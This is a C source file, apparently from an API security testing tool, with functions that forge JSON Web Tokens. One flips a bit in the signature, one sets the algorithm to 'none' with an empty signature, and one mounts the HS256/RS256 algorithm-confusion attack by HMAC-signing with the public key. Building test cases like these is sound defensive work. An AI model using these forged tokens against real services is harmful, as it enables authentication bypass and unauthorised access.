#include "apisec_attack.h"

#include "api_base64.h"

#include <openssl/evp.h>
#include <openssl/hmac.h>


static const char *
encode(const void *data, size_t len)
{
    char  *out = apisec_alloc(api_base64url_encoded_len(len) + 1);
    size_t n = api_base64url_encode(api_span(data, len), out);

    out[n] = '\0';

    return out;
}


/* "HEADER.PAYLOAD" of a token with that header's alg, and kid as it was. */

static const char *
reheaded(const char *token, const char *alg)
{
    char       *text;
    size_t      len = strcspn(token, "."), n;
    cJSON      *header = NULL;
    const char *made = NULL, *rest = token + len;
    uint8_t    *bytes = apisec_alloc(api_base64url_decoded_len(len) + 1);

    if (*rest == '.'
        && api_base64url_decode(api_span(token, len), bytes, &n) == API_OK)
    {
        header = cJSON_ParseWithLength((const char *) bytes, n);
    }

    if (!cJSON_IsObject(header)) {
        cJSON_Delete(header);
        return NULL;
    }

    cJSON_DeleteItemFromObjectCaseSensitive(header, "alg");
    apisec_sure(cJSON_AddStringToObject(header, "alg", alg));
    text = cJSON_PrintUnformatted(header);
    cJSON_Delete(header);

    if (text) {
        made = apisec_text("%s.%.*s", encode(text, strlen(text)),
            (int) strcspn(rest + 1, "."), rest + 1);
    }

    cJSON_free(text);

    return made;
}


/* One bit of the signature, in its first character: what the token says, and
   its form, stay as they are. */

const char *
apisec_tampered(const char *token)
{
    char             *copy = apisec_text("%s", token);
    char             *end = strrchr(copy, '.');
    static const char letters[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZ"
                                  "abcdefghijklmnopqrstuvwxyz0123456789-_";
    const char       *at;

    if (end == NULL || end == copy || strchr(copy, '.') == end
        || end[-1] == '.' || end[1] == '\0')
    {
        return NULL;
    }

    at = strchr(letters, end[1]);

    if (at == NULL || *at == '\0') {
        return NULL;
    }

    end[1] = letters[(size_t) (at - letters) ^ 1];

    return copy;
}


const char *
apisec_unsigned(const char *token)
{
    const char *start = reheaded(token, "none");

    return start ? apisec_text("%s.", start) : NULL;
}


const char *
apisec_confused(const char *token, const char *public)
{
    uint8_t     mac[EVP_MAX_MD_SIZE];
    unsigned    len = 0;
    const char *start = reheaded(token, "HS256");

    if (start == NULL
        || HMAC(EVP_sha256(), public, (int) strlen(public),
               (const uint8_t *) start, strlen(start), mac, &len)
               == NULL)
    {
        return NULL;
    }

    return apisec_text("%s.%s", start, encode(mac, len));
}
